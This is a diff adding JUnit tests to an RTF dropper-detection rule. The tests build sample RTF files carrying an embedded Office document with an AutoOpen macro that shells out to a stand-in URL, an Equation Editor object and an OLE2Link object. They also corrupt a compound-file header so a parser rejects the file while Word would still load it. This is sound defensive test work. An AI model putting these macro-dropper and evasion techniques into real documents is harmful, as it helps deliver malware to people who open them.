@@ -111,6 +111,35 @@ class RtfDropperRuleTest {
     }
 
     @Test
+    void anEmbeddedDocmInAPackageStreamIsAnalysedToo() throws IOException {
+        byte[] docm = OfficeFiles.docm(OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
+                "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub"));
+        byte[] object = RtfFiles.compound(RtfFiles.WORD12_CLSID, Map.of("Package", docm));
+
+        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.12", object))).reason())
+                .startsWith("The file is an RTF document carrying an embedded Office document (Word.Document.12) with a"
+                        + " macro that runs by itself (AutoOpen) and runs programs (");
+        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Document.12",
+                RtfFiles.compound(RtfFiles.WORD12_CLSID, Map.of("Package", OfficeFiles.docx())))))).isEqualTo(NOTHING_FOUND);
+    }
+
+    @Test
+    void aDamagedCompoundFileStillShowsAnEquationOrAnOle2Link() throws IOException {
+        byte[] equation = RtfFiles.equationOle2();
+        byte[] link = RtfFiles.ole2Link("http://example.invalid/x");
+        // A broken header sector count: POI refuses the file, Word's loader does not care.
+        for (byte[] compound : new byte[][] {equation, link}) {
+            java.util.Arrays.fill(compound, 0x2C, 0x30, (byte) 0x7F);
+        }
+
+        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Picture.8", equation))).reason())
+                .contains("an Equation Editor object (CLSID 0002CE02-0000-0000-C000-000000000046 in a damaged compound"
+                        + " file)");
+        assertThat(evaluate(RtfFiles.rtf(RtfFiles.embedded("Word.Picture.8", link))).reason())
+                .contains("an OLE2Link object");
+    }
+
+    @Test
     void withoutAMacroAnalysisEmbeddedDocumentsAreNotLookedInto() throws IOException {
         byte[] dropper = OfficeFiles.doc(OfficeFiles.module("ThisDocument", "Sub AutoOpen()",
                 "    Shell \"cmd /c start http://example.invalid/r\", 0", "End Sub"));
